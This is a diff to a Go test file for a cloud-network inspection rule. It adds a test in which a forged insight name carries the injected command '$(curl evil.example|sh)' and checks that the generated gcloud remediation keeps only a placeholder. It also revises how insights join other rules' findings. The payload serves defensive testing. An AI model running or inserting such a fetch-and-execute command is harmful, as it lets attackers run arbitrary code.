@@ -75,6 +75,14 @@ func TestNetworkAnalyzerInsight(t *testing.T) {
 		!strings.Contains(fix, "35.191.0.0/16") {
 		t.Errorf("remediation %s", fix)
 	}
+	// An insight name a bundle could forge reaches the command only as a
+	// placeholder.
+	forged := affinityInsight("ACTIVE")
+	forged.Name += "$(curl evil.example|sh)"
+	if got := ruletest.Run(t, insightsProject("RATE", forged), NetworkAnalyzerInsight); len(got) != 1 ||
+		!strings.HasPrefix(got[0].Remediation, "gcloud recommender insights describe INSIGHT_ID --insight-type") || strings.Contains(got[0].Remediation, "evil") {
+		t.Errorf("forged insight's fix: %q", ruletest.Messages(got))
+	}
 	// Judged: the two resources the findings are on; URL map shop, which
 	// fw-1 also names, has not passed; api-bs's europe-west1 could not be
 	// read.
@@ -136,17 +144,28 @@ func TestNetworkAnalyzerInsightSecondOpinion(t *testing.T) {
 		t.Errorf("passedBy %v", f.Evidence["passedBy"])
 	}
 
-	// No rule checks what the firewall insight says here
-	// (health-check-firewall-missing judges GKE backends): it joins any
-	// finding on its forwarding rule.
-	frRule := &inspect.Rule{ID: "test-forwarding-rule", Severity: inspect.Error, Title: "t", Check: func(p *inspect.Pass) {
+	// A finding of another rule on the insight's forwarding rule: an
+	// insight some rule checks (the firewall rules) does not fold into it
+	// and "agree"; it stands beside it.
+	frRule := &inspect.Rule{ID: "test-forwarding-rule", Severity: inspect.Info, Title: "t", Check: func(p *inspect.Pass) {
 		p.Report(inspect.Finding{Resource: inspect.Resource{Kind: "ForwardingRule", Project: ruletest.Project, Location: "global", Name: "shop-fr"},
 			Message: "bad forwarding rule", Evidence: map[string]any{"x": 1}, Remediation: "fix"})
 	}}
 	inv = insightsProject("RATE", firewallInsight())
 	res = ruletest.RunAll(inv, frRule, NetworkAnalyzerInsight)
+	if len(res.Findings) != 2 || res.Findings[1].Rule != "test-forwarding-rule" || res.Findings[1].Severity != inspect.Info ||
+		strings.Contains(res.Findings[1].Message, "Network Analyzer") || res.Findings[0].Rule != "network-analyzer-insight" {
+		t.Errorf("firewall insight beside another rule's finding: %q", ruletest.Messages(res.Findings))
+	}
+
+	// An insight no rule checks joins any finding on its resources, which
+	// it does not claim to agree with.
+	other := firewallInsight()
+	other.Subtype = "SOME_FUTURE_SUBTYPE"
+	inv = insightsProject("RATE", other)
+	res = ruletest.RunAll(inv, frRule, NetworkAnalyzerInsight)
 	if len(res.Findings) != 1 || res.Findings[0].Rule != "test-forwarding-rule" || res.Findings[0].Evidence["network-analyzer-insight"] == nil ||
-		!strings.Contains(res.Findings[0].Message, "Network Analyzer agrees: HEALTH_CHECK_FIREWALL_NOT_CONFIGURED") {
+		!strings.Contains(res.Findings[0].Message, "Network Analyzer also reports: SOME_FUTURE_SUBTYPE") {
 		t.Errorf("findings %q", ruletest.Messages(res.Findings))
 	}
 }
